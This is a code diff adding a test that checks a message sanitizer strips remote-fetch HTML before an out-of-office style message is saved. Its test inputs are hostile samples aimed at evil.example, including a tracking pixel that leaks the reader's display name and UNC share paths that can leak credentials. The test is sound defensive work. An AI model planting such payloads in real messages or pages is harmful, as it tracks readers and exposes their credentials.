@@ -142,6 +142,31 @@ def test_scripts_forms_and_handlers_are_cleaned_away(lab: Lab) -> None:
     assert not re.search("script|onclick|form", body(lab))
 
 
+@pytest.mark.parametrize(
+    "dirty",
+    [
+        '<img src="https://evil.example/track.gif?who=%displayname%">',
+        '<img src="\\\\evil.example\\share\\x.png">',
+        '<picture><source srcset="//evil.example/x"><img srcset="//evil.example/x"></picture>',
+        '<a href="\\\\evil.example\\share">x</a><a href="//evil.example/x">x</a><a href="file://evil.example/x">x</a>',
+        '<a href="https:\\\\evil.example">x</a><a href="evil.example">x</a>',
+        '<table background="https://evil.example/x"><tr><td style="background:url(//evil.example)">x</td></tr></table>',
+        '<video poster="//evil.example/x" src="//evil.example/y"></video><link href="//evil.example/x">',
+        '<svg><image href="//evil.example/x"/></svg><blockquote cite="//evil.example/x">x</blockquote>',
+    ],
+)
+def test_nothing_is_fetched_for_whoever_reads_it(lab: Lab, dirty: str) -> None:
+    result = lab.offboard(
+        seed.ADA, message(f"<p>Gone, <b>ask</b> <a href='mailto:cy@fabrikam.example'>Cy</a></p>{dirty}")
+    )
+
+    assert result.outcome(NAME) == "done"
+    assert "evil.example" not in body(lab)
+    assert "<b>ask</b>" in body(lab)
+    assert 'href="mailto:cy@fabrikam.example"' in body(lab)
+    assert "Taken out of the message" in result.message(NAME)
+
+
 def test_what_is_taken_out_is_said_at_submit_and_at_the_end(lab: Lab) -> None:
     action = catalogue.get(NAME)
     internal = "<p style='x' onclick='x()'>Gone<script>alert(1)</script></p>"
